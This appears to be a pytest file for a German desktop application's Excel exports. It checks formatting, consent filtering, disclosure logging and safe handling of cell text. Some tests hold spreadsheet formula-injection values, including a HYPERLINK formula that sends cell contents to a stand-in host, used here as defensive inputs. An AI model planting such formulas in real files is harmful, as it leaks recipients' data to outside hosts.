"""Excel lists written to real files and read back with openpyxl, as a partner would open them."""

from __future__ import annotations

import datetime as dt
from pathlib import Path

import openpyxl
import pytest

from aktif_desktop import record_keys
from aktif_desktop.errors import ValidationError
from aktif_desktop.exports import lists
from aktif_desktop.exports.common import ExportCancelled
from aktif_desktop.exports.xlsx import SheetColumn, write_xlsx
from aktif_desktop.files import safe_write
from aktif_desktop.services import audit, contacts, participations
from aktif_desktop.text import EXCEL_CELL_LIMIT


def _sheet(path: Path) -> openpyxl.worksheet.worksheet.Worksheet:
    return openpyxl.load_workbook(path).worksheets[0]


def _header_row(sheet: openpyxl.worksheet.worksheet.Worksheet) -> int:
    """The participant list has the event above its header; the others start with it."""
    return next(
        row[0].row for row in sheet.iter_rows() if record_keys.KEY_HEADER in [c.value for c in row]
    )


def _headers(sheet: openpyxl.worksheet.worksheet.Worksheet) -> list[str]:
    return [cell.value for cell in sheet[_header_row(sheet)]]


def _column(sheet: openpyxl.worksheet.worksheet.Worksheet, header: str) -> list[object]:
    index = _headers(sheet).index(header) + 1
    first = _header_row(sheet) + 1
    return [sheet.cell(row, index).value for row in range(first, sheet.max_row + 1)]


@pytest.mark.parametrize("kind", ["partners", "contacts", "plan", "participants"])
def test_every_list_is_a_real_spreadsheet(demo_db: Path, tmp_path: Path, kind: str) -> None:
    target = tmp_path / f"{kind}.xlsx"
    result = lists.export_list(kind, target, event_id=1, year=2026)
    book = openpyxl.load_workbook(target)
    sheet = book.worksheets[0]
    spec = lists.LISTS[kind]
    expected = [spec.column(code).header for code in spec.default_codes]
    assert _headers(sheet) == [*expected, record_keys.KEY_HEADER]
    head = _header_row(sheet)
    assert head == (5 if kind == "participants" else 1)
    assert sheet.max_row == result.row_count + head > head
    assert sheet.freeze_panes == f"A{head + 1}"
    assert (
        sheet.auto_filter.ref
        == f"A{head}:{sheet.cell(head, sheet.max_column).column_letter}{sheet.max_row}"
    )
    assert not sheet.tables  # an autofilter or a table, never both
    assert sheet.print_title_rows == f"${head}:${head}"
    assert sheet.page_setup.orientation == "landscape"
    assert int(sheet.page_setup.paperSize) == 9  # A4
    assert sheet.sheet_properties.pageSetUpPr.fitToPage
    assert int(sheet.page_setup.fitToWidth) == 1
    assert int(sheet.page_setup.fitToHeight) == 0
    assert sheet.cell(head, 1).font.bold
    assert book.properties.title.endswith("Familienverbund Lindenau")
    assert book.properties.creator == "Familienverbund Lindenau"
    for letter, dimension in sheet.column_dimensions.items():
        assert 6 <= dimension.width <= 60, letter
    # Every cell has its font named, not the reader's default.
    for row in sheet.iter_rows():
        for cell in row:
            if cell.value is not None:
                assert cell.font.name == "Arial" and cell.font.sz, cell.coordinate
    keys = _column(sheet, record_keys.KEY_HEADER)
    assert all(record_keys.parse_key(key)[0] == spec.key_kind for key in keys)


def test_column_widths_follow_the_content(demo_db: Path, tmp_path: Path) -> None:
    lists.export_contacts(tmp_path / "c.xlsx", columns=["titel", "organisation"])
    sheet = _sheet(tmp_path / "c.xlsx")
    longest = max(len(name) for name in _column(sheet, "Organisation"))
    assert sheet.column_dimensions["A"].width < 12  # "Titel", "Dr."
    assert sheet.column_dimensions["B"].width == min(45, longest + 2)


def test_contacts_only_with_consent_and_the_file_says_so(demo_db: Path, tmp_path: Path) -> None:
    shareable = [row for row in contacts.list_contacts(active_only=True) if row.consent_share]
    withheld = len(contacts.list_contacts(active_only=True)) - len(shareable)
    assert withheld > 0
    result = lists.export_contacts(tmp_path / "c.xlsx", columns=["nachname"])
    book = openpyxl.load_workbook(tmp_path / "c.xlsx")
    assert result.row_count == len(shareable)
    keys = _column(book.worksheets[0], record_keys.KEY_HEADER)
    assert keys == [record_keys.make_key("contact", row.id) for row in shareable]
    notes = " ".join(str(row[0]) for row in book["Hinweise"].iter_rows(values_only=True))
    assert f"nicht enthalten: {withheld} Personen ohne diese Einwilligung" in notes

    everyone = lists.export_contacts(
        tmp_path / "all.xlsx", columns=["nachname"], include_without_consent=True
    )
    assert everyone.row_count == len(shareable) + withheld
    notes = openpyxl.load_workbook(tmp_path / "all.xlsx")["Hinweise"]["A2"].value
    assert "Nur für den internen Gebrauch" in notes


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("https://example.invalid/?q="&A1,"Klick")',
        "+49 351 1234",
        "-1+2",
        "@SUM(A1:A3)",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_formula_like_text_stays_text(tmp_path: Path, text: str) -> None:
    target = tmp_path / "guard.xlsx"
    write_xlsx(
        target,
        title="t",
        author="a",
        sheet_title="Liste",
        columns=[SheetColumn("Name")],
        rows=[[text]],
    )
    cell = _sheet(target)["A2"]
    assert cell.data_type == "s"
    assert cell.value == text.replace("\r", "\n")  # XML has no lone carriage return
    assert cell.quotePrefix  # Excel shows it as typed and keeps it text when edited


def test_a_name_written_as_a_formula_is_exported_as_text(demo_db: Path, tmp_path: Path) -> None:
    evil = '=HYPERLINK("https://example.invalid","Gewinn")'
    contacts.create_contact(contacts.ContactData(last_name=evil, consent_share=True))
    lists.export_contacts(tmp_path / "c.xlsx", columns=["nachname"])
    sheet = _sheet(tmp_path / "c.xlsx")
    cells = [row[0] for row in sheet.iter_rows(min_row=2) if row[0].value == evil]
    assert len(cells) == 1 and cells[0].data_type == "s"


def test_dates_are_date_cells_and_phone_numbers_text(demo_db: Path, tmp_path: Path) -> None:
    row = contacts.create_contact(
        contacts.ContactData(
            last_name="Nullmeier",
            phone="0351 1234567",
            consent_share=True,
            verified_at=dt.date(2026, 3, 1),
        )
    )
    lists.export_contacts(tmp_path / "c.xlsx", columns=["nachname", "telefon", "geprueft"])
    sheet = _sheet(tmp_path / "c.xlsx")
    line = next(r for r in sheet.iter_rows(min_row=2) if r[0].value == row.last_name)
    assert line[1].value == "0351 1234567" and line[1].data_type == "s"
    assert line[1].number_format == "@"
    assert line[2].is_date and line[2].value.date() == dt.date(2026, 3, 1)
    assert line[2].number_format == "DD.MM.YYYY"

    lists.export_plan(tmp_path / "plan.xlsx", year=2026, columns=["beginn", "datum"])
    plan = _sheet(tmp_path / "plan.xlsx")
    assert plan["A2"].is_date and plan["A2"].number_format == "DD.MM.YYYY HH:MM"
    assert plan["B2"].is_date and plan["B2"].number_format == "DD.MM.YYYY"


def test_participants_without_list_consent_show_name_and_status_only(
    demo_db: Path, tmp_path: Path
) -> None:
    person = contacts.create_contact(
        contacts.ContactData(
            first_name="Łukasz",
            last_name="Wiśniewski",
            organisation_id=1,
            email="lukasz@example.org",
            consent_lists=False,
        )
    )
    participations.add_participant(1, person.id, "registered")
    lists.export_participants(tmp_path / "p.xlsx", event_id=1)
    sheet = _sheet(tmp_path / "p.xlsx")
    headers = _headers(sheet)
    line = next(
        [cell.value for cell in r] for r in sheet.iter_rows(min_row=2) if r[2].value == "Wiśniewski"
    )
    assert line[headers.index("Vorname")] == "Łukasz"
    assert line[headers.index("Status")] == "angemeldet"
    assert line[headers.index("Organisation")] is None
    assert line[headers.index("E-Mail")] is None
    others = [r for r in sheet.iter_rows(min_row=2, values_only=True) if r[2] != "Wiśniewski"]
    assert any(r[headers.index("Organisation")] for r in others)


def test_chosen_columns_and_unknown_codes(demo_db: Path, tmp_path: Path) -> None:
    lists.export_contacts(tmp_path / "c.xlsx", columns=["Nachname", " telefon", "nachname"])
    assert _headers(_sheet(tmp_path / "c.xlsx")) == [
        "Nachname",
        "Telefon (direkt)",
        record_keys.KEY_HEADER,
    ]
    with pytest.raises(ValidationError, match="Unbekannte Spalte\\(n\\): geburtstag"):
        lists.export_contacts(tmp_path / "x.xlsx", columns=["nachname", "geburtstag"])
    with pytest.raises(ValidationError, match="mindestens eine Spalte"):
        lists.export_contacts(tmp_path / "x.xlsx", columns=[])
    assert not (tmp_path / "x.xlsx").exists()


def test_cancel_leaves_no_file_and_keeps_the_old_one(demo_db: Path, tmp_path: Path) -> None:
    target = tmp_path / "out" / "c.xlsx"
    target.parent.mkdir()
    target.write_bytes(b"old version")
    # Replacing needs consent now (issue 20.1); the cancel must still keep the old file.
    with pytest.raises(ExportCancelled), safe_write.writing(replace=True):
        lists.export_contacts(target, progress=lambda done, total: False)
    assert target.read_bytes() == b"old version"
    assert sorted(p.name for p in target.parent.iterdir()) == ["c.xlsx"]
    assert audit.list_disclosures() == []


def test_progress_reaches_the_total(demo_db: Path, tmp_path: Path) -> None:
    seen: list[tuple[int, int]] = []
    result = lists.export_contacts(
        tmp_path / "c.xlsx", progress=lambda done, total: seen.append((done, total)) or True
    )
    assert seen[0] == (0, result.row_count)
    assert seen[-1] == (result.row_count, result.row_count)


def test_personal_lists_are_recorded_in_the_disclosure_log(demo_db: Path, tmp_path: Path) -> None:
    lists.export_partners(tmp_path / "partners.xlsx")
    lists.export_plan(tmp_path / "plan.xlsx", year=2026)
    assert audit.list_disclosures() == []  # no data of natural persons
    result = lists.export_contacts(tmp_path / "c.xlsx", columns=["vorname", "nachname"])
    (entry,) = audit.list_disclosures()
    assert entry.kind == "Ansprechpersonen"
    assert entry.columns == "Vorname, Nachname"
    assert entry.row_count == result.row_count
    assert entry.file_name == str(tmp_path / "c.xlsx")


def test_long_and_control_characters_are_made_safe(tmp_path: Path) -> None:
    target = tmp_path / "long.xlsx"
    write_xlsx(
        target,
        title="t",
        author="a",
        sheet_title="Liste",
        columns=[SheetColumn("Text"), SheetColumn("Steuerzeichen")],
        rows=[["x" * (EXCEL_CELL_LIMIT + 10), "Bell\x07 und\x00 Null"]],
    )
    sheet = _sheet(target)
    assert len(sheet["A2"].value) <= EXCEL_CELL_LIMIT
    assert sheet["A2"].value.endswith("[…gekürzt]")
    assert sheet["B2"].value == "Bell und Null"
